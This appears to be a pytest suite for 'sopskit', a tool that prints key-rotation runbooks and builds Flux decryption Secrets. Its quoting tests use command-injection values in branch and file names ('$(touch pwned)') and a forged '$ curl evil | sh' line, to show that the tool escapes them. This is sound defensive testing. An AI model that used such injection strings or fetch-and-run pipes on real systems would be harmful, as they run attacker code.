"""`runbook rotate-key` for a sandbox key and a production key (tag-tracking, with the
warning about files on the tag), a revoked key, and `flux secret`."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from sopskit import git_tags, yamlio
from tests.flux.test_check import SYNC
from tests.helpers import GpgHome, git, run_cli, run_sops
from tests.rekey.world import World, make_world


def numbered(text: str) -> list[str]:
    return [line.split(". ", 1)[1] for line in text.splitlines()
            if line[:1].isdigit() and ". " in line]


def test_sandbox_key_runbook_pushes_main_and_keeps_the_order(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.populate(2)
    world.commit()
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to", "fs2",
                env=world.env())
    assert r.code == 0, r.stderr
    titles = numbered(r.stdout)
    order = ["Create fs2", "Put fs2's private key", "Re-key the files for fs2", "Commit",
             "Roll out", "Retire flux-sandbox", "Re-key without flux-sandbox", "Commit",
             "Roll out", "Remove flux-sandbox", "Verify", "Destroy flux-sandbox"]
    assert len(titles) == len(order)
    assert all(t.startswith(o) for t, o in zip(titles, order, strict=True)), titles
    command = next(line.split("$ ", 1)[1] for line in r.stdout.splitlines()
                   if "$ sopskit keys generate" in line)
    assert command == "sopskit keys generate fs2 --type age --cluster sandbox --store keyring"
    assert "use `--private-out FILE`" in r.stdout
    # without a usable keyring the printed command refuses before registering anything: no
    # key can end up in the registry with its private part lost
    before = (world.root / "keys" / "registry.yaml").read_text()
    ran = run_cli("--repo", world.root, *shlex.split(command)[1:], env=world.env(),
                  cwd=world.root)
    assert ran.code != 0 and "keyring" in ran.stderr
    assert (world.root / "keys" / "registry.yaml").read_text() == before
    assert "sopskit flux secret sandbox --out keys/flux/sandbox-sops-age.sops.yaml" in r.stdout
    assert "git push origin HEAD:main" in r.stdout and "git tag" not in r.stdout
    assert "/data/flux-sandbox.agekey" in r.stdout
    assert "WARNING" not in r.stdout


def test_runbook_refuses_a_new_name_it_cannot_use(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.commit()
    for new, says in (("flux-sandbox", "another name"), ("bad name", "invalid key name")):
        r = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to", new,
                    env=world.env())
        assert r.code == 2 and says in r.stderr and r.stdout == "", r.stderr


def tag(world: World, name: str) -> None:
    git(world.root, "tag", "-a", name, "-m", name)


def test_production_key_runbook_warns_while_the_tag_needs_the_old_key(
        tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.populate(3, "clusters/production/apps")
    world.populate(2)
    world.commit()
    tag(world, "v1.0.0")
    args = ("--repo", world.root, "runbook", "rotate-key", "flux-production", "--to", "fp2")
    first = run_cli(*args, env=world.env())
    assert first.code == 0, first.stderr
    assert "production (tag v1.0.0)" in first.stdout
    assert "git tag -a NEXT_TAG" in first.stdout and "git push origin HEAD:main" not in \
        first.stdout
    warning = next(x for x in first.stdout.splitlines() if "WARNING" in x)
    assert "tag v1.0.0" in warning and "3 file(s)" in warning
    assert "clusters/production/apps/f000.yaml" in warning
    assert "clusters/sandbox" not in warning

    world.add_key("fp2", "[production]")  # steps 1-4: register, re-key, commit, tag
    assert run_cli("--repo", world.root, "rekey", "--apply", env=world.env()).code == 0
    world.commit("add fp2")
    tag(world, "v1.1.0")
    again = run_cli(*args, env=world.env())
    assert "already done: fp2 is in the registry" in again.stdout
    assert "WARNING" not in again.stdout
    assert "production (tag v1.1.0)" in again.stdout


def test_a_revoked_key_runbook_starts_with_changing_the_values(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    files = world.populate(3)
    world.set_status("flux-sandbox", "revoked")
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", env=world.env())
    titles = numbered(r.stdout)
    assert titles[0].startswith("flux-sandbox is revoked")
    assert "git history keeps the old ciphertexts" in r.stdout
    assert all(f"sopskit edit {f}" in r.stdout for f in files)
    assert any("already done: flux-sandbox is revoked" in t for t in titles)


def test_flux_secret_holds_the_cluster_keys_for_the_admins_only(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.add_key("flux-sandbox-2", "[sandbox]")
    world.add_key("flux-sandbox-old", "[sandbox]", status="retired")
    out = world.root / "keys/flux/sandbox-sops-age.sops.yaml"
    r = run_cli("--repo", world.root, "flux", "secret", "sandbox", "--out", out,
                env=world.env("ops-admin", "flux-sandbox", "flux-sandbox-old"))
    assert r.code == 0, r.stderr
    assert "skipped flux-sandbox-2: no private key" in r.stderr
    admin = world.keys["ops-admin"]
    meta = yamlio.load(out.read_text(), path="x")["sops"]
    assert [a["recipient"] for a in meta["age"]] == [admin.recipient]
    for name in ("flux-sandbox", "ops-admin"):
        done = run_sops("--decrypt", out, env={"SOPS_AGE_KEY": world.keys[name].secret})
        assert (done.returncode == 0) == (name == "ops-admin")
    plain = yamlio.load(run_sops("--decrypt", out, env={"SOPS_AGE_KEY": admin.secret})
                        .stdout.decode(), path="x")
    assert plain["metadata"] == {"name": "sops-age", "namespace": "flux-system"}
    assert plain["stringData"] == {"flux-sandbox.agekey": world.keys["flux-sandbox"].secret}
    # a catch-all rule covers keys/flux/, yet rekey never re-encrypts it to the clusters
    plan = json.loads(run_cli("--repo", world.root, "rekey", "--format", "json",
                              env=world.env()).stdout)
    entry = next(f for f in plan["files"] if f["path"].startswith("keys/flux/"))
    assert entry["action"] == "unmanaged"
    # and the audit neither calls it no-rule nor asks for the cluster keys as recipients
    audit = json.loads(run_cli("--repo", world.root, "audit", "--format", "json",
                               "--no-keyring", env=world.env()).stdout)
    assert [f for f in audit["findings"] if f["path"].startswith("keys/flux/")] == []


def test_admin_key_runbook_regenerates_every_cluster_secret(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.populate(1)
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "ops-admin", "--to", "admin-2",
                env=world.env())
    assert r.code == 0, r.stderr
    titles = numbered(r.stdout)
    assert titles[1].startswith("Clusters: nothing to add for admin-2")
    assert "Re-encrypt the clusters' decryption Secrets without ops-admin" in r.stdout
    for cluster in ("sandbox", "production"):
        assert f"sopskit flux secret {cluster} --out" in r.stdout
    assert "--cluster *" not in r.stdout and "--cluster '*'" in r.stdout


def test_flux_secret_exports_a_pgp_cluster_key_as_asc(tmp_path: Path, gpg_home: GpgHome) -> None:
    world = make_world(tmp_path)
    fp = gpg_home.fp  # type: ignore[attr-defined]
    world.add_pgp_key("release-bot", fp, "[production]", gpg_home.path)
    out = world.root / "keys/flux/production-sops-age.sops.yaml"
    r = run_cli("--repo", world.root, "flux", "secret", "production", "--out", out,
                env=world.env())
    assert r.code == 0, r.stderr
    assert "flux-production.agekey, release-bot.asc" in r.stderr
    admin = world.keys["ops-admin"].secret
    plain = yamlio.load(run_sops("--decrypt", out, env={"SOPS_AGE_KEY": admin}).stdout.decode(),
                        path="x")
    armored = plain["stringData"]["release-bot.asc"]
    assert armored.startswith("-----BEGIN PGP PRIVATE KEY BLOCK-----")
    imported = GpgHome()
    try:
        imported.gpg("--import", input=armored.encode())
        listed = imported.gpg("--with-colons", "--list-secret-keys").stdout.decode()
        assert f"fpr:::::::::{fp}:" in listed
    finally:
        imported.close()


def test_pgp_cluster_key_runbook_uses_gnupg_and_the_asc_entry(tmp_path: Path,
                                                               gpg_home: GpgHome) -> None:
    world = make_world(tmp_path)
    world.add_pgp_key("release-bot", gpg_home.fp, "[production]",  # type: ignore[attr-defined]
                      gpg_home.path)
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "release-bot", "--to", "rb2",
                env=world.env())
    assert r.code == 0, r.stderr
    assert ("sopskit keys generate rb2 --type pgp --cluster production --print-private | "
            "gpg --batch --import") in r.stdout
    assert "identity add" not in r.stdout and "identity remove" not in r.stdout  # age only
    assert f"gpg --delete-secret-keys {gpg_home.fp}" in r.stdout  # type: ignore[attr-defined]
    assert "writes Secret flux-system/sops-age with flux-production.agekey, rb2.asc, release-bot.asc" \
        in r.stdout
    assert '"path":"/data/release-bot.asc"' in r.stdout and ".agekey\"" not in r.stdout


def test_admin_key_runbook_names_the_step_that_regenerates_the_secrets(
        tmp_path: Path) -> None:
    world = make_world(tmp_path)
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "ops-admin", env=world.env())
    titles = numbered(r.stdout)
    note = next(x for x in r.stdout.splitlines() if "they are regenerated" in x)
    step = note.split('(step "', 1)[1].split('"', 1)[0]
    assert any(t.startswith(step) for t in titles), (step, titles)


def test_files_at_a_tag_are_read_by_blob_not_by_name(tmp_path: Path) -> None:
    """A name with a newline (two lines to `cat-file --batch`) must not shift the answers
    for the files after it: the production warning names the right files."""
    world = make_world(tmp_path)
    files = world.populate(3, "clusters/production/apps")
    (world.root / "clusters/production/a\nb.txt").write_text("not a sops file\n")
    world.commit()
    tag(world, "v1.0.0")
    at_tag = git_tags.recipients_at(world.root, "v1.0.0")
    assert sorted(at_tag) == sorted(files)
    admin = world.keys["ops-admin"].recipient
    assert all(any(r.id == admin for r in rs) for rs in at_tag.values())
    assert git_tags.latest_tag(world.root) == "v1.0.0"


def test_flux_secret_out_under_a_file_is_one_line(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    (world.root / "afile").write_text("x")
    r = run_cli("--repo", world.root, "flux", "secret", "sandbox", "--out",
                world.root / "afile" / "s.yaml", env=world.env())
    assert r.code == 3 and "afile/s.yaml: cannot write here" in r.stderr, r.stderr
    assert (world.root / "afile").read_text() == "x"


def flux_layout(world: World, refs: dict[str, str]) -> None:
    for cluster, ref in refs.items():
        base = world.root / "clusters" / cluster / "flux-system"
        base.mkdir(parents=True, exist_ok=True)
        (base / "gotk-sync.yaml").write_text(SYNC.format(ref=ref, cluster=cluster))
        (base / "kustomization.yaml").write_text("resources: [gotk-sync.yaml]\n")
    apps = world.root / "clusters/sandbox/apps.yaml"
    apps.write_text("apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\n"
                    "metadata: {name: apps, namespace: flux-system}\n"
                    "spec:\n  path: ./clusters/sandbox/flux-system\n"
                    "  sourceRef: {kind: GitRepository, name: flux-system}\n"
                    "  decryption: {provider: sops, secretRef: {name: sops-keys}}\n")


def test_runbook_reads_tracking_from_flux_not_from_names(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    world.populate(2, "clusters/production/apps")
    flux_layout(world, {"production": 'semver: ">=1.0.0"', "sandbox": "branch: develop"})
    world.commit()
    tag(world, "v1.0.0")
    git(world.root, "tag", "v1.1.0-rc.1")  # a pre-release: not for >=1.0.0
    (world.root / "README.md").write_text("later\n")
    world.commit("later")
    git(world.root, "tag", "dev-snapshot")  # newest, lightweight, not a release
    r = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-production", "--to",
                "fp2", env=world.env())
    assert r.code == 0, r.stderr
    assert "production (tag v1.0.0)" in r.stdout and "dev-snapshot" not in r.stdout
    assert "read from its GitRepository clusters/production/flux-system/gotk-sync.yaml: " \
           "semver >=1.0.0" in r.stdout
    assert "guessed" not in r.stdout
    sandbox = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to",
                      "fs2", env=world.env())
    assert "git push origin HEAD:develop" in sandbox.stdout  # Flux says develop, not main
    assert git_tags.latest_tag(world.root) == "v1.0.0"


def test_flux_secret_takes_the_name_the_kustomizations_reference(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    flux_layout(world, {"sandbox": "branch: main"})
    out = world.root / "keys/flux/sandbox-sops-age.sops.yaml"
    r = run_cli("--repo", world.root, "flux", "secret", "sandbox", "--out", out,
                env=world.env())
    assert r.code == 0, r.stderr
    assert "Secret flux-system/sops-keys with flux-sandbox.agekey" in r.stderr
    admin = world.keys["ops-admin"].secret
    plain = yamlio.load(run_sops("--decrypt", out, env={"SOPS_AGE_KEY": admin}).stdout.decode(),
                        path="x")
    assert plain["metadata"] == {"name": "sops-keys", "namespace": "flux-system"}
    assert list(plain["stringData"]) == ["flux-sandbox.agekey"]


def _words_in_a_shell(command: str, cwd: Path) -> list[str]:
    """The words a real shell passes to the command's program (printf stands in for it)."""
    import subprocess

    program, args = command.split(" ", 1)
    done = subprocess.run(["bash", "-c", f"printf '%s\\n' {args}"], cwd=cwd,
                          capture_output=True, text=True, check=True, timeout=30)
    return [program, *done.stdout.splitlines()]


def test_runbook_quotes_every_name_taken_from_the_repository(tmp_path: Path) -> None:
    """A branch name in a Flux GitRepository and a file name are the repository's, not
    ours: pasted into a shell, `$(...)` in one must stay a word, never run."""
    world = make_world(tmp_path)
    hostile = "main$(touch${IFS}pwned)"
    flux_layout(world, {"sandbox": f"branch: '{hostile}'"})
    files = world.populate(1, "clusters/sandbox/$(touch pwned)")
    world.commit()
    rotate = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to",
                     "fs2", env=world.env())
    assert rotate.code == 0, rotate.stderr
    shell = tmp_path / "shell"
    shell.mkdir()
    push = [line.split("$ ", 1)[1] for line in rotate.stdout.splitlines()
            if "$ git push" in line]
    assert push and all(_words_in_a_shell(c, shell) == ["git", "push", "origin",
                                                        f"HEAD:{hostile}"] for c in push)
    world.set_status("flux-sandbox", "revoked")
    revoked = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox",
                      env=world.env())
    edits = [line.split("$ ", 1)[1] for line in revoked.stdout.splitlines()
             if "$ sopskit edit" in line]
    assert edits and [_words_in_a_shell(c, shell) for c in edits] == [
        ["sopskit", "edit", str(f)] for f in files]
    assert list(shell.iterdir()) == []  # nothing ran: no `pwned` file


# --- the runbook says exactly what the commands then do ----------------------------------

def _expire(world: World, name: str) -> None:
    """Give `name` an expiry date in the past (an active key past it counts as expired)."""
    path = world.root / "keys" / "registry.yaml"
    text = path.read_text()
    marker = f"  {name}:\n"
    at = text.index(marker) + len(marker)
    path.write_text(text[:at] + "    expires: 2020-01-01\n" + text[at:])


def _sopskit_lines(step: dict) -> list[list[str]]:
    """The step's sopskit commands without pipes, split as a shell splits them."""
    return [shlex.split(c)[1:] for c in step["commands"]
            if c.startswith("sopskit ") and "|" not in c]


def _secret_entries(world: World, args: list[str]) -> list[str]:
    assert args[:2] == ["flux", "secret"], args
    done = run_cli("--repo", world.root, *args, env=world.env(), cwd=world.root)
    assert done.code == 0, done.stderr
    out = world.root / args[args.index("--out") + 1]
    admin = world.keys["ops-admin"].secret
    plain = yamlio.load(run_sops("--decrypt", out, env={"SOPS_AGE_KEY": admin}).stdout.decode(),
                        path="x")
    return sorted(plain["stringData"])


def _plan(world: World) -> dict[str, str]:
    done = run_cli("--repo", world.root, "rekey", "--format", "json", env=world.env())
    assert done.code == 0, done.stderr
    # the decryption Secret written meanwhile is the admins' file: rekey leaves it alone
    return {f["path"]: f["action"] for f in json.loads(done.stdout)["files"]
            if not (f["path"].startswith("keys/flux/") and f["action"] == "unmanaged")}


@pytest.mark.parametrize("status", ["active", "retired", "revoked", "expired"])
def test_runbook_says_what_the_commands_then_do(tmp_path: Path, status: str) -> None:
    world = make_world(tmp_path)
    world.populate(3)
    world.populate(1, "core/base")  # a base both clusters read ("**" rule)
    if status in ("retired", "revoked"):
        world.set_status("flux-sandbox", status)
    world.commit()
    if status == "expired":
        _expire(world, "flux-sandbox")
    shown = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to",
                    "fs2", "--format", "json", env=world.env())
    assert shown.code == 0, shown.stderr
    book = json.loads(shown.stdout)
    assert book["status"] == status
    steps = {s["id"]: s for s in book["steps"]}
    end = "revoked" if status == "revoked" else "retired"
    assert f"flux-sandbox {end}" in " ".join(steps["commit-add"]["commands"]
                                             + steps.get("commit-remove", {}).get("commands", []))
    assert (steps["retire"]["done"] is not None) == (status in ("retired", "revoked"))

    # 1. generate (the printed pipe needs a keyring: register the same key another way)
    world.add_key("fs2", "[sandbox]")
    if status in ("retired", "revoked"):
        world.set_status("flux-sandbox", status)
    if status == "expired":
        _expire(world, "flux-sandbox")
    # 2. the Secret holds exactly the entries the runbook named
    add = steps["clusters-add"]
    (secret_args, *_) = _sopskit_lines(add)
    assert _secret_entries(world, secret_args) == add["expect"]["secret_entries"]["sandbox"]
    assert (status == "active") == ("flux-sandbox.agekey" in
                                    add["expect"]["secret_entries"]["sandbox"])
    assert bool(add["warnings"]) == (status != "active")
    # 3. the rekey plan shows what the runbook said, file by file
    assert _plan(world) == steps["rekey-add"]["expect"]["files"]
    assert run_cli("--repo", world.root, "rekey", "--apply", env=world.env()).code == 0
    # 6. retire (as printed), when not done yet
    if steps["retire"]["done"] is None:
        for args in _sopskit_lines(steps["retire"]):
            assert run_cli("--repo", world.root, *args, env=world.env(), cwd=world.root).code == 0
    # 7. the second re-key: exactly the files the runbook named, or none at all
    after = _plan(world)
    if "rekey-remove" in steps:
        assert status == "active"
        named = steps["rekey-remove"]["expect"]["files"]
        assert {p: a for p, a in after.items() if a != "nothing"} == named
        assert run_cli("--repo", world.root, "rekey", "--apply", env=world.env()).code == 0
    else:
        assert set(after.values()) == {"nothing"}, after
    # 10. the Secret without the old key
    remove = steps["clusters-remove"]
    (secret_args, *_) = _sopskit_lines(remove)
    assert _secret_entries(world, secret_args) == remove["expect"]["secret_entries"]["sandbox"]
    assert remove["expect"]["secret_entries"]["sandbox"] == ["fs2.agekey"]
    assert set(_plan(world).values()) == {"nothing"}


def _ks(name: str, path: str, secret: str) -> str:
    return (f"apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n"
            f"  name: {name}\n  namespace: flux-system\nspec:\n  path: {path}\n"
            "  sourceRef:\n    kind: GitRepository\n    name: flux-system\n"
            f"  decryption:\n    provider: sops\n    secretRef:\n      name: {secret}\n")


def test_runbook_reads_the_flux_layout(tmp_path: Path) -> None:
    """Shared bases named with what each cluster needs, the Secret the Kustomizations
    reference, a Secret path inside a Kustomization's path, and file names quoted."""
    world = make_world(tmp_path)
    layout = {
        "clusters/sandbox/flux-system/gotk-sync.yaml": SYNC.format(ref="branch: main",
                                                                   cluster="sandbox"),
        "clusters/sandbox/base.yaml": _ks("base", "./core/base", "sops-keys"),
        "clusters/sandbox/keys.yaml": _ks("keys", "./keys", "sops-keys"),
        "clusters/production/flux-system/gotk-sync.yaml": SYNC.format(
            ref='semver: ">=1.0.0"', cluster="production"),
        "clusters/production/base.yaml": _ks("base", "./core/base", "sops-keys"),
    }
    for rel, text in layout.items():
        (world.root / rel).parent.mkdir(parents=True, exist_ok=True)
        (world.root / rel).write_text(text)
    shared = world.populate(1, "core/base")
    odd = "clusters/sandbox/apps/x $(touch pwned).yaml"
    world.encrypt(odd, "kind: Secret\nstringData:\n  a: b\n")
    world.commit()
    git(world.root, "tag", "-a", "v1.0.0", "-m", "v1.0.0")
    world.set_status("flux-sandbox", "revoked")
    shown = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to",
                    "fs2", "--format", "json", env=world.env())
    assert shown.code == 0, shown.stderr
    book = json.loads(shown.stdout)
    tracking = {c["cluster"]: c for c in book["clusters"]}
    assert tracking["sandbox"]["kind"] == "branch" and tracking["sandbox"]["ref"] == "main"
    steps = {s["id"]: s for s in book["steps"]}
    # the Secret the Kustomizations reference, at a path one of them applies: warned
    add = steps["clusters-add"]
    assert add["commands"][0] == ("sopskit flux secret sandbox --out "
                                  "keys/flux/sandbox-sops-keys.sops.yaml")
    assert any("writes Secret flux-system/sops-keys with fs2.agekey" in n for n in add["notes"])
    assert any("inside Kustomization flux-system/keys (path ./keys)" in n and ".sourceignore"
               in n for n in add["notes"])
    # the shared base: both clusters read it, each its own way
    roll = " ".join(steps["roll-out-add"]["notes"])
    assert f"shared by sandbox: {shared[0]}" not in roll
    assert (f"shared by production, sandbox: {shared[0]} — each cluster gets them separately:"
            " production with a new release tag; sandbox with a merge to main") in roll
    # every file name is one shell word, whatever it holds
    edits = [shlex.split(c) for c in steps["change-values"]["commands"]]
    assert ["sopskit", "edit", odd] in edits
    text = run_cli("--repo", world.root, "runbook", "rotate-key", "flux-sandbox", "--to",
                   "fs2", env=world.env()).stdout
    assert f"sopskit edit {shlex.quote(odd)}" in text
    assert "1. flux-sandbox is revoked" in text


def test_names_from_the_repository_cannot_forge_runbook_lines() -> None:
    """A file name with a line break (git allows it) is shown escaped: it cannot add a
    step or a command to the printed runbook."""
    from sopskit.engine.rekey.plan import Plan
    from sopskit.recipient import Recipient
    from sopskit.registry.model import Key
    from sopskit.runbook import steps
    from sopskit.runbook.model import Runbook
    from sopskit.runbook.render import to_text

    evil = "apps/x.yaml\n\n7. Destroy every admin key\n     $ curl evil | sh"
    key = Key("leaked", "age", Recipient.age("age1" + "q" * 58), ("sandbox",), "revoked")
    book = Runbook("leaked", "fresh", "revoked", (), (
        steps.rotate_held(key, [evil]),
        steps.rekey("rekey-add", "Re-key", Plan((), "auto", "registry"), only={evil: "rotate"})))
    text = to_text(book)
    lines = text.splitlines()
    assert [ln for ln in lines if ln[:1].isdigit()] == [
        "1. New data keys for the files leaked still reads", "2. Re-key"]
    assert not any(ln.strip().startswith("$ curl") for ln in lines)
    assert "apps/x.yaml\\n\\n7. Destroy every admin key" in text
